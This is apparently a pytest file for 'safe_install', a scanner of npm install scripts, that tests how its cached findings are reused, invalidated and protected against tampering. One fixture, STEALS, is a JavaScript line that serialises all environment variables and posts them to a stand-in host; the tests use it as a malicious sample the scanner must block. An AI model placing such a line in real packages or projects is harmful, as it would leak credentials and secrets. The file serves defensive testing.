"""A second look finds what the first one found, does nothing twice, and believes nothing that could have changed."""

from __future__ import annotations

import json
import shutil
import sqlite3
from contextlib import closing
from dataclasses import fields
from pathlib import Path
from typing import Any

import pytest

from safe_install import remembering
from safe_install.model import (
    Behaviours,
    Boundary,
    BoundaryKind,
    Digest,
    Finding,
    Gap,
    GapKind,
    Inspection,
    Member,
    ReachableFile,
    Severity,
)
from safe_install.remembering import is_bound
from safe_install.scan.fetch.cacache import content_path
from safe_install.scan.fetch.integrity import read_promise
from safe_install.scan.values import read, told
from tests.builders import an_artifact, integrity
from tests.world import Said, World

pytestmark = [pytest.mark.npm, pytest.mark.semgrep]

STEALS = "const all = JSON.stringify(process.env); require('https').request('https://a.example.test').end(all)\n"
NEEDS = {"helper": "*"}
READS = "require('helper').greet('it works')\n"


def a_tree(world: World, helper: str = "exports.greet = (text) => console.log(text)\n", version: str = "1.0.0") -> None:
    """Lock a script that uses a module of another package."""
    world.lock(
        world.registry.publish("uses", "1.0.0", {"a.js": READS}, scripts={"install": "node a"}, dependencies=NEEDS),
        world.registry.publish("helper", version, {"index.js": helper}),
    )


def scan(world: World) -> Said:
    return world.run("scan", "--json")


def test_a_second_look_says_the_same_and_does_nothing_again(world: World, looked_at: list[str]) -> None:
    a_tree(world)
    first = scan(world)
    assert set(looked_at) == {"traced", "unpacked", "matched"}
    looked_at.clear()
    assert scan(world).out == first.out
    assert looked_at == []
    assert world.registry.seen("helper")


def test_a_file_that_two_scripts_reach_is_kept_once(
    world: World, looked_at: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    helper = "exports.greet = (text) => console.log(text)\n"
    packed: list[bytes] = []
    pack = remembering._packed

    def packing(content: bytes) -> bytes:
        packed.append(content)
        return pack(content)

    monkeypatch.setattr(remembering, "_packed", packing)
    world.lock(
        *(
            world.registry.publish(name, "1.0.0", {"a.js": READS}, scripts={"install": "node a"}, dependencies=NEEDS)
            for name in ("uses", "also-uses")
        ),
        world.registry.publish("helper", "1.0.0", {"index.js": helper}),
    )
    first = scan(world)
    assert packed.count(helper.encode()) == 1
    looked_at.clear()
    assert scan(world).out == first.out
    assert looked_at == []


def test_where_the_lockfile_does_not_say_where_archives_are_npm_is_told_again(
    world: World, looked_at: list[str], tmp_path: Path
) -> None:
    world.lock(world.registry.publish("plain", "1.0.0", {"index.js": "1\n"}), resolved=False)
    assert scan(world).code == 0
    looked_at.clear()
    assert scan(world).code == 0
    shutil.rmtree(tmp_path / "cache" / "npm" / "_cacache" / "index-v5")
    assert scan(world).code == 0
    assert world.run("ci").code == 0
    assert looked_at == []
    assert world.read("node_modules/plain/index.js") == "1\n"


def test_what_is_remembered_keeps_its_findings_and_blocks(world: World, looked_at: list[str]) -> None:
    world.lock(world.registry.publish("steals", "1.0.0", {"a.js": STEALS}, scripts={"install": "node a"}))
    first = scan(world)
    assert first.verdicts == {"steals install": "block"}
    looked_at.clear()
    assert scan(world).out == first.out
    assert looked_at == []


def test_another_helper_at_the_same_place_is_looked_at_again(world: World, looked_at: list[str]) -> None:
    a_tree(world)
    assert "a.example.test" not in scan(world).out
    looked_at.clear()
    a_tree(world, helper=f"exports.greet = () => {{ {STEALS} }}\n", version="1.0.1")
    assert "a.example.test" in scan(world).out
    assert looked_at.count("unpacked") == 1
    assert "traced" in looked_at


def test_a_program_that_another_package_brings_since_is_followed(world: World, looked_at: list[str]) -> None:
    world.lock(world.registry.publish("calls", "1.0.0", {"a.js": ""}, scripts={"install": "some-tool"}))
    assert "tool.js" not in scan(world).out
    looked_at.clear()
    brings = world.registry.publish("brings", "1.0.0", {"tool.js": STEALS}, bin={"some-tool": "tool.js"})
    world.locked["node_modules/brings"] = world.registry.lock_entry(brings)
    world.write_lock()
    assert "tool.js" in scan(world).out
    assert "traced" in looked_at


def test_a_package_beside_it_that_no_script_asks_for_changes_nothing(world: World, looked_at: list[str]) -> None:
    a_tree(world)
    scan(world)
    looked_at.clear()
    world.locked["node_modules/other"] = world.registry.lock_entry(
        world.registry.publish("other", "1.0.0", {"a.js": ""})
    )
    world.write_lock()
    scan(world)
    assert looked_at == ["unpacked"]


def test_a_script_of_the_project_itself_is_read_each_time(world: World, looked_at: list[str]) -> None:
    world.lock(scripts={"postinstall": "node setup"})
    world.write("setup.js", "console.log('hello')\n")
    assert scan(world).verdicts == {"app postinstall": "skip"}
    world.write("setup.js", STEALS)
    looked_at.clear()
    assert scan(world).verdicts == {"app postinstall": "block"}
    assert "traced" in looked_at


def test_what_was_not_wholly_matched_is_looked_at_again(
    world: World, looked_at: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from safe_install.scan.match.matching import Matching

    a_tree(world)
    with monkeypatch.context() as hurried:
        hurried.setattr(Matching, "_ask", lambda *_: "it was stopped")
        gaps = scan(world).report["verdicts"][0]["gaps"]
    assert {gap["kind"] for gap in gaps} == {GapKind.UNMATCHED}
    looked_at.clear()
    assert not scan(world).report["verdicts"][0]["gaps"]
    assert {"traced", "matched"} <= set(looked_at)


def test_a_tarball_that_was_spoilt_in_the_cache_is_fetched_again_and_installed(world: World, tmp_path: Path) -> None:
    a_tree(world)
    first = world.run("ci", "--json")
    promise = read_promise(world.locked["node_modules/helper"]["integrity"])
    assert promise is not None
    kept = content_path(tmp_path / "cache" / "npm", promise.algorithm, promise.digests[0])
    kept.write_bytes(b"spoilt" + kept.read_bytes()[6:])
    shutil.rmtree(world.folder / "node_modules")
    assert world.run("ci", "--json").code == first.code
    assert world.read("node_modules/helper/index.js").startswith("exports.greet")


def test_a_tarball_that_is_gone_from_the_cache_is_fetched_again(world: World, tmp_path: Path) -> None:
    a_tree(world)
    first = world.run("ci", "--json")
    promise = read_promise(world.locked["node_modules/helper"]["integrity"])
    assert promise is not None
    content_path(tmp_path / "cache" / "npm", promise.algorithm, promise.digests[0]).unlink()
    shutil.rmtree(world.folder / "node_modules")
    assert world.run("ci", "--json").code == first.code
    assert world.has("node_modules/helper/index.js")


def test_other_code_of_ours_remembers_nothing_of_this(
    world: World, looked_at: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    a_tree(world)
    scan(world)
    looked_at.clear()
    monkeypatch.setattr("safe_install.remembering.code_digest", lambda: "another")
    scan(world)
    assert {"traced", "unpacked"} <= set(looked_at)


def test_a_content_that_somebody_exchanged_in_the_store_is_not_believed(
    world: World, looked_at: list[str], tmp_path: Path
) -> None:
    a_tree(world)
    first = scan(world)
    with closing(sqlite3.connect(tmp_path / "cache" / "remembered.sqlite")) as store:
        store.execute(
            "UPDATE remembered SET result = (SELECT result FROM remembered WHERE about = 'file' LIMIT 1) WHERE about = 'file'"
        )
        store.commit()
    looked_at.clear()
    assert scan(world).out == first.out
    assert "traced" in looked_at


def test_a_store_inside_of_the_project_is_not_used_and_that_is_told(
    world: World, looked_at: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    a_tree(world)
    monkeypatch.setenv("SAFE_INSTALL_CACHE", str(world.folder / ".cache"))
    for _ in range(2):
        looked_at.clear()
        assert any("nothing is remembered" in note for note in scan(world).report["notes"])
        assert set(looked_at) == {"traced", "unpacked", "matched"}
    assert not world.has(".cache/remembered.sqlite")


def names(kind: Any) -> set[str]:  # noqa: ANN401 - any dataclass
    return {field.name for field in fields(kind)}


def test_nothing_that_an_inspection_says_is_forgotten() -> None:
    assert names(remembering._Shown) == names(Inspection) - {"script"}
    assert names(remembering._File) == names(ReachableFile) - {"content"} | {"digest"}
    assert names(Member) == {"digest", "size", "executable"}  # all of which unpack/recalled.py writes


def test_values_come_back_as_they_were() -> None:
    gap = Gap(kind=GapKind.DYNAMIC, where="a@1.0.0", detail="\ud800 ✓", line=3)
    shown = remembering._Shown(
        files=(),
        gaps=(gap,),
        boundaries=(Boundary(kind=BoundaryKind.COMPILES, where="a", detail="b"),),
        findings=(Finding(signature="s", severity=Severity.ERROR, message="m", where="w"),),
        behaviours=Behaviours(env=("A",), hosts=("b.test",)),
        exposed=(("a", "b", Digest("c")),),
        links=frozenset({(("a", "b"), ("c", "d"))}),
        put_off=(("a", "b", 1, 2),),
        unneeded=(("a", "b", 1),),
        done_by=((("a", "b"), Behaviours(programs=("sh",))),),
        harmless=True,
    )
    assert read(remembering._Shown, json.loads(json.dumps(told(shown)))) == shown


@pytest.mark.parametrize("said", [None, [], ["a"], [[], [], [], [], [], [], [], [], [], "yes"], {"files": []}])
def test_what_is_no_such_value_is_not_read(said: object) -> None:
    with pytest.raises((TypeError, ValueError, KeyError)):
        read(remembering._Shown, said)


@pytest.mark.parametrize(
    ("text", "bound"),
    [
        (integrity(b"a"), True),
        (integrity(b"a", "sha1"), False),
        (f"{integrity(b'a')} {integrity(b'b')}", False),
        (None, False),
    ],
)
def test_only_a_strong_integrity_of_one_content_binds(text: str | None, bound: bool) -> None:  # noqa: FBT001
    assert is_bound(an_artifact(integrity=text)) is bound
